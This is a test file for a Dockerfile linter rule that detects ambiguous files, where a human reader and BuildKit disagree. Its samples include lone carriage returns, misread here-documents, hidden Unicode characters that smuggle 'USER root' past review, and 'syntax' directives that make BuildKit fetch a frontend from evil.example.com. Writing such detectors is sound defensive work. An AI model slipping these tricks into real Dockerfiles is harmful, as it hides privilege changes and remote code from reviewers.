import { ambiguousDockerfile } from '../../src/rules/ambiguous-dockerfile.ts';
import { testRule } from '../support/test-rule.ts';

const FROM = 'FROM alpine:3.23\n';

testRule(ambiguousDockerfile, {
  dockerfile: {
    flags: [
      {
        case: 'lone-cr-in-comment',
        because: 'a plain reader sees USER, BuildKit a comment',
        file: `${FROM}# x«\r»USER app\n`,
        severity: 'high',
        message:
          'A carriage return without a line feed shows as a new line in editors, but BuildKit reads on in the same line.',
      },
      {
        case: 'lone-cr-between-instructions',
        because: 'three instructions or one',
        file: 'FROM alpine:3.23«\r»RUN true«\r»USER root\n',
      },
      {
        case: 'heredoc-in-json-form',
        because: 'the JSON form has no here-document',
        file: `${FROM}RUN ["sh","-c",«"cat <<X"»]\nUSER root\n`,
      },
      {
        because: 'nor has it after ONBUILD',
        file: `${FROM}ONBUILD RUN ["sh","-c",«"cat <<X"»]\nUSER root\n`,
      },
      {
        case: 'heredoc-escaped',
        because: 'escaped, so no here-document and USER counts',
        file: `${FROM}RUN true || echo «\\<<X»\nUSER root\n`,
      },
      {
        case: 'heredoc-delimiter-blank',
        because: 'the name has a blank and USER is text',
        file: `${FROM}RUN cat «<<"X Y"» >/f\nUSER app\nX Y\n`,
      },
      {
        case: 'heredoc-numbered-spaced',
        because: 'a descriptor, and a blank before the name',
        file: `${FROM}RUN a «3<<X»\nUSER app\nX\nRUN a «<< Y»\nUSER app\nY\n`,
      },
      {
        case: 'heredoc-glued-quotes',
        because: 'the name is XZ',
        file: `${FROM}RUN a «<<"X"Z»\nUSER app\nXZ\n`,
      },
      {
        because: 'quotes hide the here-document from BuildKit only',
        file: `${FROM}«RUN» echo "a <<EOF b"\nUSER root\n`,
      },
      {
        case: 'double-escape-at-end',
        because: 'the line is not continued and USER counts',
        file: `${FROM}RUN echo «\\\\»\nUSER root\n`,
      },
      {
        because: 'a no-break space after the backslash ends the instruction',
        file: `${FROM}RUN echo «\\»\u00a0\nUSER root\n`,
      },
      {
        case: 'unicode-blank-before-instruction',
        because: 'BuildKit removes it and runs the instruction',
        file: `${FROM}«\u00a0USER» root\n«\u2003USER» root\n`,
      },
      {
        case: 'frontend-in-disguise',
        because: 'BuildKit runs the frontend it names',
        file: '«// syntax=evil.example.com/x»\nFROM alpine:3.23\n',
      },
      { because: 'so it does for JSON', file: '«{"syntax":"evil.example.com/x"}»\nFROM alpine:3.23\n' },
      {
        because: 'and after a shebang',
        file: '#!/usr/bin/env docker\n«# syntax=evil.example.com/x»\nFROM alpine:3.23\n',
      },
      {
        case: 'late-escape-directive',
        because: 'it counts no longer, so USER does',
        file: '# foo=bar\n«# escape=`»\nFROM alpine:3.23\nRUN echo `\nUSER root\n',
      },
      {
        case: 'hidden-characters',
        because: 'bidirectional and zero-width characters',
        file: `${FROM}# a«\u202e»b\nRUN echo «\u200b»x\n`,
      },
      { because: 'a NUL character', file: `${FROM}RUN echo a«\u0000»b\n` },
    ],
    accepts: [
      {
        case: 'ordinary-file',
        because: 'byte order mark, CRLF, quoted here-document, comment in a continuation',
        file: "\ufeff# syntax=docker/dockerfile:1\r\nFROM alpine:3.23\r\nRUN cat <<-'X' > /f && \\\r\n    # note\r\n    true\r\n\tbody\r\n\tX\r\nUSER 10001\r\n",
      },
      {
        case: 'windows-escape-directive',
        because: 'the backslash is no escape here',
        file: '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2025\nWORKDIR C:\\\\app\\\\\nCOPY a.exe C:\\\\app\\\\\n',
      },
      {
        because: 'joiners are part of emoji and of other scripts',
        file: `${FROM}# \u{1F468}\u200d\u{1F4BB} می\u200cخواهم\nRUN true\n`,
      },
      {
        because: 'a blank line of a no-break space hides nothing',
        file: `${FROM}\u00a0\nRUN true\n`,
      },
    ],
  },
});
